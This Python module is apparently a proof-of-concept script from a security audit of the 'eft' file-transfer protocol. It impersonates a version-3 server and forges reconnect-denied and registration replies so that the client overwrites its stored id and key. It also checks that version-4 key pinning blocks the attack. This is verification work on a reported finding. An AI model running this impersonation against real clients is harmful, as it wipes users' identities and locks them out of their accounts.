"""The server's view turned around: an impersonated server makes the client throw its
identity away.

Whoever answers at the server's address (a man in the middle, a hijacked name or port)
answers the client's reconnect (827) with 1606, "I do not know you". Version 3 cannot
tell a real server from another, and our client then registers again (825): on the
forged 1600 that follows it writes the id it is given and a new RSA key over
``me.info`` and ``priv.key`` before anything else is checked. Its old id, the only
thing that reconnects it to the real server (and to the files stored under it), is
gone; and its name stays taken there by that old id, so the next registration at the
real server gets 1601 (client exit 4): the user is locked out of their own name. One
forged answer, no key, no secret.

Here the impostor answers 1606 to the first 827, 1600 with an id of its own to the
825 that follows, and waits for the 826 that shows the client took that id. Success:
the client sent its old id in 827 and the forged one in 826.

``--protocol 4``: the impostor must first answer message 1 with a key of its own, and
the client checks it against its pin (or ``--server-fingerprint``) before it sends
message 3; no 1606 can reach a client that has not accepted the server's key. The
version-4 attempt is the strongest impostor there is: a real eft-server that does not
know the client (``--target``, its own data directory), which answers 1606 to any
login, truthfully. Relayed unchanged, it fails if the client never sends message 3.
"""

from __future__ import annotations

import argparse
import asyncio
import os

from eft_protocol.codes import REQUEST_HEADER, RESPONSE_HEADER, RequestCode, ResponseCode

from .common import AttackError, Out, add_listen_argument, address, impersonate_once
from .v4 import add_protocol_argument

FINDING = "EFT-19"
SUMMARY = "an impersonated server's 1606 makes the client replace its identity"
VERSION_3 = 3


def add_arguments(parser: argparse.ArgumentParser) -> None:
    add_listen_argument(parser)
    parser.add_argument(
        "--target", help="version 4: the impostor to relay to (a server that does not know us)"
    )
    add_protocol_argument(parser)


async def _read_request(reader: asyncio.StreamReader) -> tuple[bytes, int, bytes, bytes]:
    header = await reader.readexactly(REQUEST_HEADER.size)
    client_id, _version, code, size = REQUEST_HEADER.unpack(header)
    payload = await reader.readexactly(size)
    return client_id, code, header + payload, payload


def _response(code: int, payload: bytes) -> bytes:
    return RESPONSE_HEADER.pack(VERSION_3, code, len(payload)) + payload


async def _impersonate_v3(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, out: Out
) -> dict[str, object]:
    seen: dict[str, object] = {"requests": []}
    forged_id = os.urandom(16)
    while True:
        try:
            client_id, code, _raw, _payload = await _read_request(reader)
        except (asyncio.IncompleteReadError, ConnectionError):
            return seen
        seen["requests"].append(code)  # type: ignore[attr-defined]
        if code == RequestCode.RECONNECT:
            seen["old_id"] = client_id.hex()
            out.step("827 from the client: answering 1606", old_id=client_id.hex())
            writer.write(_response(ResponseCode.RECONNECT_DENIED, client_id))
        elif code == RequestCode.REGISTER:
            seen["forged_id"] = forged_id.hex()
            out.step("825 from the client: answering 1600 with our id", forged_id=forged_id)
            writer.write(_response(ResponseCode.REGISTERED, forged_id))
        elif code == RequestCode.SEND_PUBLIC_KEY:
            seen["adopted_id"] = client_id.hex()
            out.step("826 under our id: the client took it", client_id=client_id.hex())
            return seen
        else:
            return seen
        await writer.drain()


async def _relay_v4(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, target: str, out: Out
) -> dict[str, object]:
    """Relay to the impostor; count the client's frames (message 3 is its second)."""
    host, port = address(target)
    try:
        up_reader, up_writer = await asyncio.open_connection(host, port)
    except OSError as exc:
        raise AttackError(f"cannot connect to {target}: {exc}") from None
    codes: list[int] = []

    async def downstream() -> None:
        while data := await up_reader.read(65536):
            writer.write(data)
            await writer.drain()

    down = asyncio.create_task(downstream())
    try:
        while True:
            try:
                _client_id, code, raw, _payload = await _read_request(reader)
            except (asyncio.IncompleteReadError, ConnectionError):
                break
            codes.append(code)
            up_writer.write(raw)
            await up_writer.drain()
    finally:
        down.cancel()
        up_writer.close()
    out.step("the client closed", frames=codes)
    return {"requests": codes}


async def run(args: argparse.Namespace, out: Out) -> bool:
    if args.protocol == 4 and not args.target:
        raise AttackError("version 4 relays to an impostor: give --target")

    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> dict[str, object]:
        if args.protocol == 4:
            return await _relay_v4(reader, writer, args.target, out)
        return await _impersonate_v3(reader, writer, out)

    seen = await impersonate_once(args.listen, args.timeout, out, talk)
    if args.protocol == 4:
        requests = seen["requests"]
        assert isinstance(requests, list)
        return out.result(
            len(requests) > 1,
            "the client sent message 3 to the impostor"
            if len(requests) > 1
            else "the client refused the impostor's key after message 2: no 1606 reached it",
            requests=requests,
        )
    adopted = "adopted_id" in seen and seen.get("adopted_id") == seen.get("forged_id")
    return out.result(
        adopted and "old_id" in seen,
        "the client dropped its identity for ours" if adopted else "the client kept its id",
        old_id=seen.get("old_id"),
        forged_id=seen.get("forged_id"),
        requests=seen["requests"],
    )
